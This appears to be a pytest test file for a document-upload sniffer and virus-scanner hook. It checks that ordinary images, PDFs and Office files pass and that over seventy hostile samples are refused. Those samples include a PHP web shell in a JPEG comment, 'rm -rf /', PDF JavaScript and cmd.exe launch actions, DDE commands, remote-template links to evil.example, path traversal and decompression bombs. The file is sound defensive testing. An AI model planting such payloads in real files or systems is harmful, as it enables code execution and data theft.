"""What is taken in and what is refused, by content alone."""

import contextlib
import stat
import time
import zlib

import pytest

from core.documents import images, pdfs
from core.documents.scanning import scan
from core.documents.sniffing import DOCX, XLSX, Refused, sniff
from tests.core.documents import files
from tests.core.documents.files import (
    archive,
    docx,
    heic,
    jpeg,
    link,
    object_stream,
    pdf,
    png,
    relations,
    segment,
    stream,
    types,
    with_flag,
    xlsx,
)  # fmt: skip

ZIP = docx()
# Stored, not packed: the word stands in the bytes, and a reader that trusts /Length reads on.
PACKED_WITH_FALSE_END = zlib.compress(b"4 0 << >> endstream << /S /JavaScript >>", 0)
HONEST = {
    "png": (png(), "image/png"),
    "png with a text chunk": (png(extra=files.chunk(b"tEXt", b"Title\x00Tr\xe1\xbb\x93")), "image/png"),
    "jpeg": (jpeg(), "image/jpeg"),
    "jpeg of a telephone, a second picture after it": (jpeg(after=jpeg()), "image/jpeg"),
    "jpeg with a film after it": (jpeg(after=b"\x00\x00\x00\x18ftypmp42" + b"\x00" * 50), "image/jpeg"),
    "heic": (heic(), "image/heic"),
    "pdf": (pdf(), "application/pdf"),
    "pdf with packed objects and a packed page": (
        pdf(
            object_stream(b"<< /Type /Page /MediaBox [0 0 595 842] >>")
            + stream(b"/Filter /FlateDecode", zlib.compress(b"BT ET"))
        ),
        "application/pdf",
    ),
    "pdf with a scanned page": (
        pdf(stream(b"/Subtype /Image /Width 2480 /Height 3508 /Filter /DCTDecode", jpeg())),
        "application/pdf",
    ),
    "docx": (docx(), DOCX),
    "docx with a picture and a link": (
        docx(
            ("word/media/image1.png", png()),
            ("word/_rels/document.xml.rels", relations(link("hyperlink", "https://example.vn/?a=1&amp;b=2"))),
        ),
        DOCX,
    ),
    "xlsx": (xlsx(), XLSX),
    "xlsx with printer settings": (xlsx(("xl/printerSettings/printerSettings1.bin", b"\x00\x01")), XLSX),
}

HOSTILE = {
    # not what is wanted at all
    "nothing": (b"", "empty"),
    "text": (b"Xin chao", "unknown_kind"),
    "svg": (b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>', "unknown_kind"),
    "html": (b"<!DOCTYPE html><script>alert(1)</script>", "unknown_kind"),
    "windows program": (b"MZ" + b"\x00" * 100, "unknown_kind"),
    "gif": (b"GIF89a" + b"\x00" * 50, "unknown_kind"),
    "script": (b"#!/bin/sh\nrm -rf /\n", "unknown_kind"),
    "rtf": (b"{\\rtf1 \\object}", "unknown_kind"),
    "old word": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600, "old_office"),
    "film": (b"\x00\x00\x00\x18ftypmp42" + b"\x00" * 50, "unknown_kind"),
    "pdf after other bytes": (b"GIF89a" + pdf(), "unknown_kind"),
    # PNG
    "png cut short": (png()[:-9], "broken"),
    "png with a wrong checksum": (png()[:-1] + b"\x00", "broken"),
    "png without pixels": (b"\x89PNG\r\n\x1a\n" + files.chunk(b"IEND", b""), "broken"),
    "png bomb": (png(width=40_000, height=40_000), "bomb"),
    "png of no size": (png(width=0), "broken"),
    "png with a program after it": (png(after=b"MZ"), "two_kinds"),
    "png that is a zip": (png(after=ZIP), "two_kinds"),
    "png with a script": (png(extra=files.chunk(b"tEXt", b"x\x00<script>alert(1)</script>")), "two_kinds"),
    "png with a length beyond its end": (png()[:8] + b"\x7f\xff\xff\xffIHDR" + b"\x00" * 40, "broken"),
    # JPEG
    "jpeg cut short": (jpeg()[:-2], "broken"),
    "jpeg without a size": (jpeg(sized=False), "broken"),
    "jpeg bomb": (jpeg(width=65_000, height=65_000), "bomb"),
    "jpeg that is a zip": (jpeg(after=ZIP), "two_kinds"),
    "jpeg with a zip in a comment": (jpeg(extra=segment(0xFE, archive([("a.class", b"x")]))), "two_kinds"),
    "jpeg with php in a comment": (jpeg(extra=segment(0xFE, b"<?php system($_GET['c']); ?>")), "two_kinds"),
    "jpeg with a program after it": (jpeg(after=b"MZ\x90\x00"), "two_kinds"),
    "jpeg with a pdf after it": (jpeg(after=b"\n" + pdf()), "two_kinds"),
    "jpeg segment beyond its end": (b"\xff\xd8\xff\xe0\xff\xff", "broken"),
    "jpeg of markers only": (b"\xff\xd8" + b"\xff" * 1000, "broken"),
    # HEIC
    "heic cut short": (heic()[:-1], "broken"),
    "heic bomb": (heic(width=2**31, height=2**31), "bomb"),
    "heic without a picture": (files.box(b"ftyp", b"heic" + b"\x00" * 4), "broken"),
    "heic with more after it": (heic(after=b"MZ"), "broken"),
    # PDF
    "pdf cut short": (pdf(tail=b""), "broken"),
    "pdf with javascript": (pdf(b"7 0 obj\n<< /S /JavaScript /JS (app.alert(1)) >>\nendobj\n"), "active"),
    "pdf with javascript spelt otherwise": (pdf(b"7 0 obj\n<< /S /J#61vaScr#69pt /#4aS (x) >>\nendobj\n"), "active"),
    "pdf with packed javascript": (pdf(object_stream(b"<< /S /JavaScript /JS (x) >>")), "active"),
    "pdf with packed javascript spelt otherwise": (
        pdf(object_stream(b"<< /S /J#61vaScript >>", name=b"Obj#53tm")),
        "hidden",
    ),
    "pdf whose filter is spelt otherwise": (
        pdf(object_stream(b"<< /S /JavaScript >>", filters=b"/F#69lter /FlateDecode")),
        "hidden",
    ),
    "pdf whose objects are shifted": (
        pdf(object_stream(b"<< >>", filters=b"/Filter /FlateDecode /DecodeParms << /Predictor 12 >>")),
        "hidden",
    ),
    "pdf whose objects go on after a false end": (
        pdf(stream(b"/Type /ObjStm /Filter /FlateDecode", PACKED_WITH_FALSE_END)),
        "hidden",
    ),
    "pdf with a remark before its objects": (
        pdf(object_stream(b"<< /S /JavaScript >>").replace(b">>\nstream", b">> % x\nstream")),
        "hidden",
    ),
    "pdf whose objects begin after a bare return": (
        pdf(object_stream(b"<< /S /JavaScript >>").replace(b"stream\n", b"stream\r", 1)),
        "hidden",
    ),
    "pdf of endless streams": (pdf(b"<< >>\nstream\nendstream\n" * (pdfs.MAX_STREAMS + 1)), "bomb"),
    "pdf with javascript inside a false stream": (
        pdf(b"7 0 obj\n(>> stream\n) << /S /JavaScript >>\nendobj\n8 0 obj (endstream) endobj\n"),
        "active",
    ),
    "pdf that starts a program": (pdf(b"7 0 obj\n<< /S /Launch /F (cmd.exe) >>\nendobj\n"), "active"),
    "pdf with an enclosed file": (pdf(stream(b"/Type /EmbeddedFile", b"MZ")), "active"),
    "pdf form in xfa": (pdf(b"7 0 obj\n<< /XFA 8 0 R >>\nendobj\n"), "active"),
    "pdf that sends a form": (pdf(b"7 0 obj\n<< /S /SubmitForm >>\nendobj\n"), "active"),
    "pdf with a password": (pdf(tail=b"<< /Encrypt 9 0 R >>\n%%EOF\n"), "encrypted"),
    "pdf with a script at its head": (pdf(head=b"%PDF-1.4\n<script>alert(1)</script>\n"), "two_kinds"),
    "pdf that is a zip": (pdf() + ZIP, "two_kinds"),
    "pdf that is a zip which ends like a pdf": (pdf() + docx(comment=b"\n%%EOF\n"), "two_kinds"),
    "pdf with more after it": (pdf(tail=b"%%EOF\n" + b"A" * 30), "two_kinds"),
    "pdf whose objects cannot be looked into": (pdf(object_stream(b"<< >>", filters=b"/Filter /LZWDecode")), "hidden"),
    "pdf whose objects do not unpack": (pdf(stream(b"/Type /ObjStm /Filter /FlateDecode", b"nonsense")), "hidden"),
    "pdf bomb": (pdf(stream(b"/Filter /FlateDecode", zlib.compress(b"\x00" * (pdfs.MAX_UNPACKED + 1)))), "bomb"),
    "pdf bomb in a bomb": (
        pdf(stream(b"/Filter [/FlateDecode /FlateDecode]", zlib.compress(zlib.compress(b"0" * 99)))),
        "bomb",
    ),
    "pdf with an endless sheet": (pdf(box="0 0 9999999 9999999"), "bomb"),
    "pdf with an endless picture": (
        pdf(stream(b"/Subtype /Image /Width 99999 /Height 99999 /Filter /DCTDecode", b"x")),
        "bomb",
    ),
    "pdf of too many pages": (pdf(pages=1001), "too_many_pages"),
    "pdf with an endless stream": (pdf(b"5 0 obj\n<< /Length 5 >>\nstream\nabc"), "broken"),
    # Office
    "plain zip": (archive([("a.txt", "x")]), "unknown_kind"),
    "java archive": (archive([("META-INF/MANIFEST.MF", "x"), ("A.class", "x")]), "unknown_kind"),
    "presentation": (archive([("[Content_Types].xml", "<Types/>"), ("ppt/presentation.xml", "<p/>")]), "unknown_kind"),
    "docx with macros": (docx(("word/vbaProject.bin", b"\xd0\xcf\x11\xe0")), "active"),
    "docx that says it has macros": (
        docx(
            content_types=types("wordprocessingml.document").replace(
                "</Types>",
                '<Default Extension="y" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>',
            )
        ),
        "active",
    ),
    "docx with activex": (docx(("word/activeX/activeX1.xml", "<x/>")), "active"),
    "xlsx with old macro sheets": (xlsx(("xl/macrosheets/sheet1.xml", "<x/>")), "active"),
    "docx with an enclosed program": (docx(("word/embeddings/oleObject1.bin", b"MZ")), "enclosed"),
    "docx with a script": (docx(("word/run.js", "x")), "enclosed"),
    "docx with a template elsewhere": (
        docx(("word/_rels/settings.xml.rels", relations(link("attachedTemplate", "http://evil.example/t.dotm")))),
        "linked",
    ),
    "docx with a picture elsewhere": (
        docx(("word/_rels/document.xml.rels", relations(link("image", "http://evil.example/pixel.png")))),
        "linked",
    ),
    "docx with a link spelt otherwise": (
        docx(("word/_rels/document.xml.rels", relations(link("image", "http://evil.example/", "&#69;xternal")))),
        "linked",
    ),
    "docx with dde": (docx(document="<w:instrText>DDEAUTO c:\\\\windows\\\\cmd.exe</w:instrText>"), "active"),
    "xlsx with dde": (xlsx(("xl/externalLinks/externalLink1.xml", '<ddeLink ddeService="cmd"/>')), "active"),
    "docx with entities": (docx(document='<!DOCTYPE a [<!ENTITY b "cc">]><a>&b;</a>'), "broken"),
    "docx in utf-16": (docx(document="<!DOCTYPE a>".encode("utf-16")), "broken"),
    "docx that leaves its folder": (docx(("../../etc/passwd.xml", "x")), "broken"),
    "docx with an absolute name": (docx(("/etc/passwd.xml", "x")), "broken"),
    "docx bomb": (docx(("word/media/image1.png", b"\x00" * (110 * 2**20))), "bomb"),
    "docx of too many parts": (docx(*((f"word/p{at}.xml", "") for at in range(3001))), "bomb"),
    "docx with a password": (with_flag(ZIP, 1), "broken"),
    "docx cut short": (ZIP[:-30], "broken"),
    "docx with more after it": (ZIP + b"MZ" + b"\x00" * 30, "two_kinds"),
    "docx with a comment": (docx(comment=b"<script>alert(1)</script>" * 4), "two_kinds"),
    "docx after another zip": (archive([("a.txt", "x")]) + ZIP, "two_kinds"),
    "docx without a document": (archive([("[Content_Types].xml", types("wordprocessingml.document"))]), "unknown_kind"),
    "docx whose document is of another type": (docx(content_types="<Types/>"), "broken"),
}


@pytest.mark.parametrize("name", HONEST)
def test_honest_files_are_known(name):
    content, mime = HONEST[name]
    assert sniff(content).mime == mime


@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_files_are_refused_soon_and_say_why(name):
    content, code = HOSTILE[name]
    began = time.monotonic()
    with pytest.raises(Refused) as refused:
        sniff(content)
    assert refused.value.code == code
    assert len(refused.value.text) > 20
    assert time.monotonic() - began < 5


def test_corpus_is_large_enough():
    assert len(HOSTILE) >= 70


def test_what_our_own_printer_makes_is_taken_back():
    from core.documents.printing import render
    from tests.core.documents.printing.samples import FULL

    for template, data in FULL.items():
        assert sniff(render(template, data)).mime == "application/pdf"


def test_limit(settings):
    settings.DH_UPLOAD_LIMIT_MB = 1
    room = 2**20 - len(jpeg())
    assert sniff(jpeg(after=b"\x00" * room)).mime == "image/jpeg"
    with pytest.raises(Refused) as refused:
        sniff(jpeg(after=b"\x00" * (room + 1)))
    assert refused.value.code == "too_large" and "1 MB" in refused.value.text


def test_largest_pictures_of_telephones_pass():
    assert sniff(jpeg(width=12_000, height=9_000)).mime == "image/jpeg"
    assert images.MAX_PIXELS > 12_000 * 9_000


@pytest.mark.parametrize("honest", ["png", "jpeg", "heic", "pdf", "docx", "xlsx"])
def test_no_cut_and_no_flipped_byte_breaks_the_looking(honest):
    """Whatever happens to a file on its way, the answer is yes or Refused, never a crash."""
    content = HONEST[honest][0]
    for at in range(0, len(content), max(1, len(content) // 300)):
        for spoilt in (content[:at], content[:at] + bytes([content[at] ^ 0xFF]) + content[at + 1 :]):
            with contextlib.suppress(Refused):
                sniff(spoilt)


@pytest.fixture
def scanner(tmp_path, settings):
    def make(script):
        path = tmp_path / "scanner"
        path.write_text(f"#!/bin/sh\n{script}\n")
        path.chmod(path.stat().st_mode | stat.S_IEXEC)
        settings.DH_VIRUS_SCANNER = f"{path} --no-summary -"

    return make


class TestScanner:
    def test_without_one_every_file_passes(self, settings):
        settings.DH_VIRUS_SCANNER = ""
        scan(b"x")

    def test_reads_the_file_from_its_input(self, scanner):
        scanner("grep -q EICAR && exit 1; exit 0")
        scan(b"clean")
        with pytest.raises(Refused) as refused:
            scan(b"an EICAR test")
        assert refused.value.code == "infected"

    def test_one_that_fails_lets_nothing_through(self, scanner):
        scanner("cat > /dev/null; exit 2")
        with pytest.raises(Refused) as refused:
            scan(b"x")
        assert refused.value.code == "not_scanned"

    def test_one_that_hangs_lets_nothing_through(self, scanner, monkeypatch):
        monkeypatch.setattr("core.documents.scanning.SECONDS", 0.2)
        scanner("exec sleep 20")
        with pytest.raises(Refused) as refused:
            scan(b"x")
        assert refused.value.code == "not_scanned"

    def test_one_that_is_not_there_lets_nothing_through(self, settings):
        settings.DH_VIRUS_SCANNER = "/nowhere/clamdscan -"
        with pytest.raises(Refused) as refused:
            scan(b"x")
        assert refused.value.code == "not_scanned"
